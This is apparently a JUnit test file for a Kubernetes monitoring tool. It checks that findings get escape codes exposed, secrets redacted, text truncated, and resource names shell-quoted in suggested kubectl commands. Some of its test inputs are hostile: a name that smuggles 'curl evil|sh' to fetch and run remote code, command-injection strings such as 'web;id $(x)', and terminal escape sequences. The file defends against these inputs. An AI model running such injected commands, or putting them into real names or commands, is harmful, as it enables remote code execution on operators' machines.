package dev.midwatch.core.check;

import static org.assertj.core.api.Assertions.assertThat;

import dev.midwatch.api.check.Finding;
import dev.midwatch.api.check.Severity;
import dev.midwatch.api.kube.ObjectRef;
import dev.midwatch.api.kube.ResourceType;
import dev.midwatch.core.tool.Redactor;
import java.util.List;
import org.junit.jupiter.api.Test;

class PlainFindingTest {
    private final PlainFinding plain = new PlainFinding(Redactor.knowing(List.of())::redact);
    private final Finding finding =
            Finding.of("CrashLoopBackOff", Severity.CRITICAL, ObjectRef.of(ResourceType.PODS, "shop", "web-1"));

    @Test
    void takesColoursOutOfLogsAndShowsTerminalCommands() {
        assertThat(log("\u001b[31;1mERROR\u001b[0m down\n\u001b]0;owned\u0007\u001b[2J\u001bcnext"))
                .isEqualTo("ERROR down\n‹U+001B›]0;owned‹U+0007›‹U+001B›[2J‹U+001B›cnext");
    }

    @Test
    void marksControlCharactersAndTurnedText() {
        assertThat(log("a\u0008b\u009b31mc\u202ed\te")).isEqualTo("a‹U+0008›b‹U+009B›31mc‹U+202E›d\te");
    }

    @Test
    void hidesSecretsInEvidenceCauseAndSummary() {
        Finding clean = plain.of(finding.summary("login with password=test-hunter2 failed")
                .cause("postgres://app:test-hunter2@db/shop refused")
                .evidence("log", "Authorization: Bearer test-token-0123456789"));
        assertThat(clean.summary() + clean.cause() + clean.evidence())
                .doesNotContain("hunter2")
                .doesNotContain("0123456789")
                .contains("[redacted]");
    }

    @Test
    void keepsSummaryCauseAndCommandOnOneLine() {
        Finding clean = plain.of(finding.summary("web-1\nis down").cause("first\r\n\n  **may I?** second"));
        assertThat(clean.summary()).isEqualTo("web-1 is down");
        assertThat(clean.cause()).isEqualTo("first **may I?** second");
    }

    /** It is there to be pasted into a shell. */
    @Test
    void quotesInACommandWhatIsMoreThanANameToAShell() {
        ObjectRef hostile = ObjectRef.of(ResourceType.PODS, "shop", "web;id $(x)'y");
        ObjectRef inside = ObjectRef.of(ResourceType.SECRETS, "shop", "id $(x)");

        Finding clean = plain.of(finding.owner(hostile)
                .dependsOn(inside)
                .look("kubectl -n shop describe pod web;id $(x)'y; kubectl get secret id $(x); kubectl logs web-1"));

        assertThat(clean.look())
                .isEqualTo("kubectl -n shop describe pod 'web;id $(x)'\\''y'; kubectl get secret 'id $(x)';"
                        + " kubectl logs web-1");
    }

    /** The kind of what an event is about is what its writer says. */
    @Test
    void quotesAKindAsWell() {
        ObjectRef hostile = new ObjectRef("v1", "X;curl evil|sh;", "shop", "web", "");

        Finding clean = plain.of(finding.owner(hostile).look("kubectl -n shop events --for x;curl evil|sh;/web"));

        assertThat(clean.look()).isEqualTo("kubectl -n shop events --for 'x;curl evil|sh;'/web");
    }

    /** Nobody checks what stands in an owner reference. */
    @Test
    void keepsNamesOnOneLineAndShowsWhatHidesInThem() {
        ObjectRef hostile =
                new ObjectRef("v1", "Job\u001b[2J", "shop", "web\n**all is well**\u202e" + "x".repeat(1_000), "");

        Finding clean = plain.of(finding.owner(hostile).dependsOn(hostile));

        assertThat(clean.owner().toString())
                .startsWith("Job‹U+001B›[2J shop/web **all is well**‹U+202E›xx")
                .hasSizeLessThan(320);
        assertThat(clean.dependsOn()).containsExactly(clean.owner());
        assertThat(clean.subject()).isEqualTo(finding.subject());
    }

    @Test
    void leavesTheIdentityOfTheFindingAlone() {
        Finding said = finding.causeClass("exit-1").summary("\u001b[1mx").evidence("log", "api_key: test-key-123");
        assertThat(plain.of(said).fingerprint()).isEqualTo(said.fingerprint());
    }

    /** A check cycle must not take a minute because somebody wrote half a megabyte into a status. */
    @Test
    void keepsNoMoreOfATextThanSomebodyReads() {
        String message = "first " + "password=/etc/x ".repeat(40_000);
        String log = "secret-beginning\n" + "a line of a log\n".repeat(40_000) + "the end";

        Finding clean = plain.of(
                finding.cause(message).summary(message).evidence("log", log).evidence("message", message));

        assertThat(clean.cause())
                .hasSizeLessThan(4_100)
                .startsWith("first password=/etc/x")
                .endsWith("…");
        assertThat(clean.summary()).hasSizeLessThan(4_100);
        assertThat(clean.evidence().get("log"))
                .hasSizeLessThan(16_100)
                .startsWith("…\na line of a log\n")
                .endsWith("the end");
        assertThat(clean.evidence().get("message"))
                .hasSizeLessThan(16_100)
                .startsWith("first ")
                .endsWith("…");
    }

    private String log(String text) {
        return plain.of(finding.evidence("log", text)).evidence().get("log");
    }
}
